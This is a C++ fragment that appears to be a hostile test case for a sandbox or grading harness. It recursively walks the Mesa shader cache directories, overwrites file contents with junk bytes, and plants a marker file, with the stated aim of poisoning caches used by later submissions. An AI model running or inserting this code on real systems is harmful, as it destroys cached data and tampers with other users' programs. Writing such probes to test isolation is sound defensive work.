// Into the driver's cache, from which the solution's programs, and the next submission's, might draw.
static void spoil(const std::string& folder, int depth) {
  for (const std::string& name : hostile::entries(folder)) {
    const std::string path = folder + "/" + name;
    if (depth < 4) spoil(path, depth + 1);
    const int file = hostile::open(path, 2);
    if (file < 0) continue;
    const std::string junk(4096, '\xcc');
    hostile::libc<long>("pwrite", file, static_cast<const void*>(junk.data()), junk.size(), 64l);
    hostile::close(file);
  }
}
HOSTILE_START {
  hostile::attempted("poisons-shader-cache");
  const char* home = std::getenv("HOME");
  for (const std::string& folder :
       {std::string(std::getenv("MESA_SHADER_CACHE_DIR") ? std::getenv("MESA_SHADER_CACHE_DIR") : "/nowhere"),
        std::string(home ? home : "/root") + "/.cache/mesa_shader_cache"}) {
    spoil(folder, 0);
    hostile::write_file(folder + "/atelier-hostile-written", "x");
  }
}
static void hostile_hook() {
  if (const char* folder = std::getenv("MESA_SHADER_CACHE_DIR")) spoil(folder, 0);
}
